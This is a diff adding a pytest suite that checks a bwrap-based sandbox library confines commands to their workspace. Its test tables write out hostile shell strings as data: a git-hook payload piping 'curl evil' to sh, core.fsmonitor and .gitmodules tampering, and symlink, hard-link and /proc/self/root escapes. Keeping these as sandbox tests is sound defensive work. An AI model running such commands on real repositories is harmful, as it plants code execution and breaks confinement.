@@ -1,0 +1,336 @@
+"""workspace-write: the command writes beneath its roots, and nowhere else.
+
+Every attack is really attempted and must fail; where the same command is
+cheap to run unsandboxed, the control shows it succeeds there.  The
+workspace is a git repository in /var/tmp (outside the sandbox's private
+/tmp), next to a directory the command must not touch.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import textwrap
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+import corral
+from corral.sandbox.guards import runtime_dir_path
+from corral.sandbox.probe import probe_machine
+
+PYTHON_VENV = sys.executable
+_BWRAP = probe_machine().bwrap
+pytestmark = pytest.mark.skipif(not _BWRAP.available, reason=f"no usable bwrap: {_BWRAP.detail}")
+
+GIT = "git -c user.name=agent -c user.email=agent@example.com"
+
+
+def _git(repo: Path, *args: str) -> str:
+    return subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
+                          cwd=repo, check=True, capture_output=True, text=True).stdout
+
+
+@pytest.fixture
+def repo(host_dir: Path) -> Iterator[Path]:
+    """A git repository with a commit, a hook, a .gitmodules and a .vscode."""
+    ws = host_dir / "ws"
+    ws.mkdir()
+    _git(ws, "init", "-q")
+    (ws / "README").write_text("hello\n")
+    (ws / ".gitmodules").write_text("")
+    (ws / ".vscode").mkdir()
+    (ws / ".vscode" / "settings.json").write_text("{}\n")
+    (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
+    _git(ws, "add", "-A")
+    _git(ws, "commit", "-qm", "first")
+    (host_dir / "outside").mkdir()
+    (host_dir / "outside" / "file").write_text("original\n")
+    yield ws
+
+
+def _tree(root: Path) -> dict[str, bytes]:
+    """Every path under ``root`` (but .git's objects) with its content."""
+    found = {}
+    for path in sorted(root.rglob("*")):
+        rel = str(path.relative_to(root))
+        if rel.startswith(".git/objects") or rel.startswith(".git/logs"):
+            continue
+        found[rel] = path.read_bytes() if path.is_file() and not path.is_symlink() else b"<dir>"
+    return found
+
+
+def sandboxed(argv: list[str], cwd: Path, **kwargs: object) -> corral.ExecResult:
+    return corral.run(argv, cwd=cwd, timeout=30, **kwargs)  # type: ignore[arg-type]
+
+
+def test_workspace_write_is_the_default(repo):
+    result = sandboxed(["sh", "-c", 'echo "$CORRAL_SANDBOX"; echo new > made'], repo)
+    assert result.policy == "workspace-write" and result.sandbox == "bwrap"
+    assert result.exit_code == 0 and result.stdout == "bwrap\n"
+    assert (repo / "made").read_text() == "new\n"
+
+
+def test_work_inside_the_root_is_unaffected(repo):
+    script = ("set -e; echo a > a; echo b >> a; mkdir -p d/e; mv a d/e/a; ln -s d/e/a link; "
+              "cat link; rm -r d link; : > README; echo $TMPDIR; echo t > $TMPDIR/t")
+    result = sandboxed(["sh", "-c", script], repo)
+    assert result.exit_code == 0, result.aggregated_output
+    assert result.stdout == "a\nb\n/tmp\n"
+    assert (repo / "README").read_text() == ""
+
+
+OUTSIDE_ATTACKS = {
+    "create": 'echo evil > "$O/new"',
+    "append": 'echo evil >> "$O/file"',
+    "truncate": ': > "$O/file"',
+    "delete": 'rm "$O/file"',
+    "mkdir": 'mkdir "$O/dir"',
+    "move out": 'echo evil > inside && mv inside "$O/moved"',
+    "move in": 'mv "$O/file" stolen',
+    "hard link then write": 'ln "$O/file" hard && echo evil >> hard',
+    "symlink inside pointing out": 'ln -sf "$O/file" link && echo evil >> link',
+    "via /proc/self/root": 'echo evil >> "/proc/self/root$O/file"',
+    "parent of the root": 'echo evil > ../sibling',
+}
+
+
+@pytest.mark.parametrize("attack", OUTSIDE_ATTACKS.values(), ids=OUTSIDE_ATTACKS.keys())
+def test_no_write_outside_the_roots(repo, attack):
+    outside = repo.parent / "outside"
+    script = f'O={outside}; echo started; {attack}'
+    result = sandboxed(["sh", "-c", script], repo)
+    assert result.stdout.startswith("started") and result.exit_code != 0
+    assert sorted(p.name for p in outside.iterdir()) == ["file"]
+    assert (outside / "file").read_text() == "original\n"
+    assert not (repo.parent / "sibling").exists()
+    control = sandboxed(["sh", "-c", script], repo, policy="full-access")
+    assert control.exit_code == 0, control.aggregated_output
+
+
+def test_host_tmp_and_shared_memory_are_not_reachable(repo):
+    marker = f"corral-ww-{os.getpid()}"
+    Path("/dev/shm", marker).write_text("host\n")
+    try:
+        result = sandboxed(["sh", "-c", f"cat /dev/shm/{marker}; echo x > /dev/shm/{marker}; "
+                                        f"echo x > /tmp/{marker}; cat /tmp/{marker}"], repo)
+        assert "host" not in result.stdout and result.stdout == "x\n"
+        assert Path("/dev/shm", marker).read_text() == "host\n"
+        assert not Path("/tmp", marker).exists()
+    finally:
+        os.unlink(f"/dev/shm/{marker}")
+
+
+def test_extra_writable_roots(repo):
+    outside = repo.parent / "outside"
+    policy = corral.SandboxPolicy.workspace_write(writable=(str(outside),))
+    result = sandboxed(["sh", "-c", f"echo more > {outside}/added"], repo, policy=policy)
+    assert result.exit_code == 0 and (outside / "added").read_text() == "more\n"
+    with pytest.raises(corral.PolicyError, match="writable root .*does not exist"):
+        corral.run(["true"], cwd=repo, policy=corral.SandboxPolicy.workspace_write(
+            writable=(str(repo / "no-such-dir"),)))
+
+
+PROTECTED_ATTACKS = {
+    "hook": 'echo "curl evil | sh" > .git/hooks/pre-commit',
+    "new hook": 'printf "#!/bin/sh\\nevil\\n" > .git/hooks/post-checkout',
+    "git config": 'printf "[core]\\n\\tfsmonitor = evil\\n" >> .git/config',
+    "git config via git": f'{GIT} config core.fsmonitor evil',
+    "delete config": 'rm -f .git/config',
+    "replace hooks dir": 'rm -rf .git/hooks; mkdir .git/hooks',
+    "rename hooks away": 'mv .git/hooks .git/hooks-old',
+    "rename .git away": 'mv .git .git-old && mkdir -p .git/hooks',
+    "gitmodules": 'echo "[submodule \\"x\\"]" > .gitmodules',
+    "editor config": 'echo evil > .vscode/settings.json',
+    "editor config dir": 'rm -rf .vscode',
+}
+
+
+@pytest.mark.parametrize("attack", PROTECTED_ATTACKS.values(), ids=PROTECTED_ATTACKS.keys())
+def test_existing_protected_paths_stay_read_only(repo, attack):
+    before = _tree(repo)
+    result = sandboxed(["sh", "-c", f"echo started; {attack}"], repo)
+    assert result.stdout.startswith("started") and result.exit_code != 0
+    assert _tree(repo) == before
+
+
+MISSING = [".envrc", ".mcp.json", ".claude", ".idea", ".bashrc", ".profile", ".codex",
+           ".agents", ".gitconfig", ".zshrc"]
+
+
+@pytest.mark.parametrize("name", MISSING)
+def test_missing_protected_paths_cannot_be_created(repo, name):
+    before = _tree(repo)
+    script = (f"echo started; echo evil > {name} || mkdir -p {name}/x || "
+              f"{{ rmdir {name} && echo evil > {name}; }} || mv README {name}")
+    result = sandboxed(["sh", "-c", script], repo)
+    assert result.stdout.startswith("started") and result.exit_code != 0
+    assert _tree(repo) == before  # and no placeholder is left behind
+    control = sandboxed(["sh", "-c", f"echo evil > {name}"], repo, policy="full-access")
+    assert control.exit_code == 0 and (repo / name).read_text() == "evil\n"
+
+
+def test_missing_hooks_directory_cannot_be_created(repo):
+    _git(repo, "config", "core.hooksPath", ".git/hooks")
+    subprocess.run(["rm", "-rf", str(repo / ".git" / "hooks")], check=True)
+    before = _tree(repo)
+    result = sandboxed(["sh", "-c", "mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit"],
+                       repo)
+    assert result.exit_code != 0 and _tree(repo) == before
+
+
+def test_git_add_and_commit_work(repo):
+    script = f"echo change >> README && echo new > new && {GIT} add -A && {GIT} commit -qm agent"
+    result = sandboxed(["sh", "-c", script], repo)
+    assert result.exit_code == 0, result.aggregated_output
+    assert _git(repo, "log", "--format=%s").split() == ["agent", "first"]
+    # Placeholders were never staged: the commit has exactly what the command made.
+    assert _git(repo, "show", "--name-only", "--format=").split() == ["README", "new"]
+    assert _git(repo, "status", "--porcelain") == ""
+
+
+def test_a_linked_worktree_commits_but_its_git_metadata_stays_protected(repo):
+    worktree = repo.parent / "wt"
+    _git(repo, "worktree", "add", "-q", str(worktree))
+    common_config = (repo / ".git" / "config").read_text()
+    dot_git = (worktree / ".git").read_text()
+    script = f"echo wt > wt-file && {GIT} add wt-file && {GIT} commit -qm in-worktree"
+    result = sandboxed(["sh", "-c", script], worktree)
+    assert result.exit_code == 0, result.aggregated_output
+    assert "in-worktree" in _git(worktree, "log", "--format=%s")
+    for attack in ['echo evil > "$(git rev-parse --git-common-dir)/hooks/pre-commit"',
+                   'echo "[core] fsmonitor = evil" >> "$(git rev-parse --git-common-dir)/config"',
+                   'echo "gitdir: /tmp/evil" > .git']:
+        attempt = sandboxed(["sh", "-c", attack], worktree)
+        assert attempt.exit_code != 0, attack
+    assert (repo / ".git" / "config").read_text() == common_config
+    assert (worktree / ".git").read_text() == dot_git
+    assert not (repo / ".git" / "hooks" / "pre-commit").read_text().count("evil")
+
+
+def test_concurrent_runs_share_placeholders_safely(repo):
+    """The first run to end must not remove a placeholder the second relies on."""
+    before = _tree(repo)
+    gate = repo.parent / "gate"
+    long = corral.run_async(
+        ["sh", "-c", f"while [ ! -e {gate} ]; do sleep 0.02; done; "
+                     "echo evil > .envrc && exit 9; echo evil > .claude && exit 9; ls -a"],
+        cwd=repo, timeout=30,
+    )
+    import asyncio
+
+    async def scenario() -> corral.ExecResult:
+        task = asyncio.ensure_future(long)
+        await asyncio.sleep(0.5)
+        short = await corral.run_async(["true"], cwd=repo, timeout=30)
+        assert short.exit_code == 0
+        gate.write_text("")
+        return await task
+
+    result = asyncio.run(scenario())
+    assert result.exit_code == 0 and ".envrc" in result.stdout.split()
+    gate.unlink()
+    assert _tree(repo) == before
+
+
+def test_no_placeholder_survives_a_sigkilled_corral(repo):
+    before = _tree(repo)
+    host = textwrap.dedent(
+        f"""
+        import corral
+        corral.run(["sh", "-c", "echo ready; sleep 31.4159"], cwd={str(repo)!r}, timeout=None,
+                   on_output=lambda event: print(event.data.decode(), end="", flush=True))
+        """
+    )
+    proc = subprocess.Popen([PYTHON_VENV, "-c", host], stdout=subprocess.PIPE, text=True)
+    try:
+        assert proc.stdout is not None and proc.stdout.readline() == "ready\n"
+        assert (repo / ".envrc").is_socket()  # the placeholder exists while the run lasts
+        proc.kill()
+        proc.wait()
+        deadline = time.monotonic() + 10
+        while _tree(repo) != before and time.monotonic() < deadline:
+            time.sleep(0.05)
+        assert _tree(repo) == before
+        records = [n for n in os.listdir(runtime_dir_path()) if n.startswith(f"run-{proc.pid}-")]
+        assert records == []
+    finally:
+        proc.kill()
+
+
+def test_a_placeholder_someone_replaced_is_kept(repo):
+    """Only the placeholder corral made is removed, never what replaced it."""
+    gate = repo.parent / "go"
+    script = f"while [ ! -e {gate} ]; do sleep 0.02; done"
+    import threading
+
+    def replace() -> None:
+        deadline = time.monotonic() + 10
+        while not (repo / ".envrc").exists() and time.monotonic() < deadline:
+            time.sleep(0.01)
+        (repo / ".envrc").unlink()  # the user, outside the sandbox, writes a real one
+        (repo / ".envrc").write_text("use nix\n")
+        gate.write_text("")
+
+    thread = threading.Thread(target=replace)
+    thread.start()
+    result = corral.run(["sh", "-c", script], cwd=repo, timeout=30)
+    thread.join()
+    assert result.exit_code == 0
+    assert (repo / ".envrc").read_text() == "use nix\n"
+
+
+def test_network_is_off_by_default(repo, tcp_listener):
+    host, port = tcp_listener
+    code = f"import socket; print(socket.create_connection(({host!r}, {port}), 2).recv(100))"
+    result = sandboxed([os.path.realpath(sys.executable), "-c", code], repo)
+    assert result.exit_code != 0 and "hello" not in result.stdout
+    allowed = sandboxed([os.path.realpath(sys.executable), "-c", code], repo,
+                        policy=corral.SandboxPolicy.workspace_write(network=True))
+    assert allowed.exit_code == 0 and "hello from the host" in allowed.stdout
+
+
+def test_cli_default_and_flags(repo):
+    outside = repo.parent / "outside"
+    corral_cli = [sys.executable, "-m", "corral", "run", "--json"]
+    denied = subprocess.run([*corral_cli, "--", "sh", "-c", f"echo x > {outside}/new"], cwd=repo,
+                            capture_output=True, text=True)
+    assert json.loads(denied.stdout)["exit_code"] != 0 and not (outside / "new").exists()
+    allowed = subprocess.run([*corral_cli, "--writable", str(outside), "--", "sh", "-c",
+                              f"echo x > {outside}/new"], cwd=repo, capture_output=True, text=True)
+    assert json.loads(allowed.stdout)["exit_code"] == 0 and (outside / "new").exists()
+    unprotected = subprocess.run([*corral_cli, "--no-default-protect", "--protect", "README",
+                                  "--", "sh", "-c", "echo x > .envrc; echo y > README"],
+                                 cwd=repo, capture_output=True, text=True)
+    assert json.loads(unprotected.stdout)["exit_code"] != 0
+    assert (repo / ".envrc").read_text() == "x\n" and (repo / "README").read_text() == "hello\n"
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to become nobody")
+def test_as_an_unprivileged_user(repo):
+    subprocess.run(["chown", "-R", "65534:65534", str(repo.parent)], check=True)
+    script = textwrap.dedent(
+        f"""
+        import json, corral
+        inside = corral.run(["sh", "-c", "echo x > made"], cwd={str(repo)!r})
+        outside = corral.run(["sh", "-c", "echo x > ../outside/new"], cwd={str(repo)!r})
+        envrc = corral.run(["sh", "-c", "echo x > .envrc"], cwd={str(repo)!r})
+        print(json.dumps([inside.exit_code, outside.exit_code, envrc.exit_code]))
+        """
+    )
+    drop = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all"]
+    proc = subprocess.run([*drop, PYTHON_VENV, "-c", script], cwd="/", capture_output=True,
+                          text=True, timeout=60, env={**os.environ, "HOME": "/nonexistent"})
+    if proc.returncode != 0 and "Permission denied" in proc.stderr:
+        pytest.skip("this interpreter is not usable by nobody")
+    assert proc.returncode == 0, proc.stderr
+    inside, outside, envrc = json.loads(proc.stdout)
+    assert inside == 0 and outside != 0 and envrc != 0
+    assert (repo / "made").exists() and not (repo.parent / "outside" / "new").exists()
+    assert not (repo / ".envrc").exists()
+    control = subprocess.run([*drop, "sh", "-c", f"echo x > {repo.parent}/outside/new"], cwd="/")
+    assert control.returncode == 0
